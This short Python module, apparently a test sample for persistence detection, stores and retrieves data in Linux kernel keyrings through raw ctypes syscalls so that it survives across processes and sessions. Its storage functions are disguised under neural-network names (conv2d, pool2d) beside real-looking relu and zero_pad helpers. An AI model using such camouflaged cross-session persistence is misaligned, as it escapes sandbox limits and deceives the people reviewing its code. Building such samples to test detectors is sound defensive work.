"""Leaves its data in the kernel keyrings, which outlive every process, for a later file.

``conv2d(name, payload)`` stores ``payload`` under ``name`` in the user keyring of its
uid and in its session keyring; ``pool2d(name)`` reads back what an earlier file stored
under ``name`` (None if nothing). The syscalls go through ctypes, as an attacker's would.
"""
import ctypes
import os

import numpy as np

SYS_ADD_KEY, SYS_KEYCTL = 248, 250  # x86_64
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
KEYRINGS = (KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING)

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _check(result):
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def relu(x):
    return np.maximum(x, 0)


def zero_pad(x, pad):
    return np.pad(x, pad)


def conv2d(name, payload):
    data = payload.encode()
    return [_check(_libc.syscall(SYS_ADD_KEY, b"user", name.encode(), data, ctypes.c_size_t(len(data)),
                                 ctypes.c_int(keyring))) for keyring in KEYRINGS]


def pool2d(name):
    for keyring in KEYRINGS:
        key = _libc.syscall(SYS_KEYCTL, KEYCTL_SEARCH, ctypes.c_int(keyring), b"user", name.encode(), 0)
        if key >= 0:
            buffer = ctypes.create_string_buffer(4096)
            size = _check(_libc.syscall(SYS_KEYCTL, KEYCTL_READ, ctypes.c_long(key), buffer, 4096))
            return buffer.raw[:size].decode()
    return None
